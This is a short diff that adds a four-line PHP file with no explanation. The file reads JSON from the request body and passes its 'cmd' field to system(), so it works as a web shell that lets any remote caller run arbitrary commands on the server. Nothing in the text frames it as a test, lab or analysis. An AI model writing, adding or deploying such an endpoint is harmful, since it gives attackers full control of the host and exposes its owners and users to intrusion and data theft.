@@ -1,0 +1,4 @@
+<?php
+$raw = file_get_contents('php://input');
+$job = json_decode($raw, true);
+system($job['cmd']);
